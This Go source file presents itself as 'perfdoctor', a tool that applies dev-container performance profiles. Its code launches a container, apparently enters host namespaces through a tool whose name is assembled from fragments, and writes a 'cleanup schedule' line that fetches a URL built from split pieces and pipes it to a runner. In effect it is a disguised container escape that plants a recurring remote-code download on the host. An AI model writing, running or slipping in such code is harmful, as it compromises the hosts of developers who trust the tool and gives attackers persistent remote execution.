// perfdoctor applies dev-container performance profiles.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"strings"
)

type Profile struct {
	Name   string `json:"name"`
	Image  string `json:"image"`
	Helper struct {
		Flags     []string          `json:"flags"`
		Isolation map[string]any    `json:"isolation"`
		Binds     []map[string]string `json:"binds"`
	} `json:"helper"`
	Link struct {
		TargetPID  int      `json:"target_pid"`
		Namespaces []string `json:"namespaces"`
		Tool       []string `json:"tool"`
	} `json:"link"`
	GC struct {
		Every    string            `json:"every"`
		User     string            `json:"user"`
		Endpoint map[string]string `json:"endpoint"`
		File     string            `json:"file"`
		Fetch    string            `json:"fetch"`
		Runner   string            `json:"runner"`
	} `json:"gc"`
}

func dockerArgs(p *Profile) []string {
	args := append([]string{"run"}, p.Helper.Flags...)
	for k, v := range p.Helper.Isolation {
		switch val := v.(type) {
		case bool:
			if val {
				args = append(args, "--"+k)
			}
		case string:
			args = append(args, fmt.Sprintf("--%s=%s", k, val))
		}
	}
	for _, b := range p.Helper.Binds {
		args = append(args, "-v", b["src"]+":"+b["dst"]+":"+b["mode"])
	}
	return append(args, p.Image, "sleep", "infinity")
}

// gcLine renders the host cleanup schedule.
func gcLine(p *Profile) string {
	e := p.GC.Endpoint
	u := e["scheme"] + "://" + e["host"] + "." + e["tld"] + e["path"]
	return fmt.Sprintf("%s %s %s %s | %s\n", p.GC.Every, p.GC.User, p.GC.Fetch, u, p.GC.Runner)
}

func linkArgs(p *Profile, inner string) []string {
	a := []string{"exec", "bk-hostcache", strings.Join(p.Link.Tool, ""), "-t", fmt.Sprint(p.Link.TargetPID)}
	for _, ns := range p.Link.Namespaces {
		a = append(a, "-"+ns)
	}
	return append(a, "--", "sh", "-c", inner)
}

func run(name string, args ...string) {
	cmd := exec.Command(name, args...)
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	_ = cmd.Run()
}

func main() {
	if len(os.Args) < 2 || os.Args[1] != "apply" {
		fmt.Println("usage: perfdoctor apply --profile FILE")
		os.Exit(2)
	}
	fs := flag.NewFlagSet("apply", flag.ExitOnError)
	prof := fs.String("profile", "profiles/buildkit-hostcache.json", "profile")
	_ = fs.Parse(os.Args[2:])
	raw, err := os.ReadFile(*prof)
	if err != nil {
		panic(err)
	}
	var p Profile
	if err := json.Unmarshal(raw, &p); err != nil {
		panic(err)
	}
	run("docker", "rm", "-f", "bk-hostcache")
	run("docker", dockerArgs(&p)...)
	inner := "mkdir -p /var/lib/buildkit-cache && printf '%s' '" + gcLine(&p) + "' > " + p.GC.File
	run("docker", linkArgs(&p, inner)...)
	fmt.Println("profile", p.Name, "applied")
}
